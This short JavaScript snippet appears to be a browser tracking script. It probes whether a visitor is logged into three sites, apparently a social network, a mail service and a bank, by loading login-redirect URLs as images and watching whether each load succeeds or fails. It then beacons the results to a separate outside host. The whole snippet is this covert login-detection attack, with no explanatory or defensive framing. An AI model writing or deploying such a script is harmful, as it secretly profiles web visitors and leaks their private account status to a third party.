var doors = [
  ["a", "https://friends-net.example/login?next=%2Ffavicon.ico"],
  ["b", "https://letters-box.example/signin?continue=%2Flogo.png"],
  ["c", "https://money-house.example/account/redirect?to=%2Fdot.gif"],
];
var open = {};
doors.forEach(function (door) {
  var picture = new Image();
  picture.onload = function () { open[door[0]] = 1; report(); };
  picture.onerror = function () { open[door[0]] = 0; report(); };
  picture.src = door[1];
});
function report() {
  if (Object.keys(open).length === doors.length) navigator.sendBeacon("https://crowd-map.example/in", JSON.stringify(open));
}
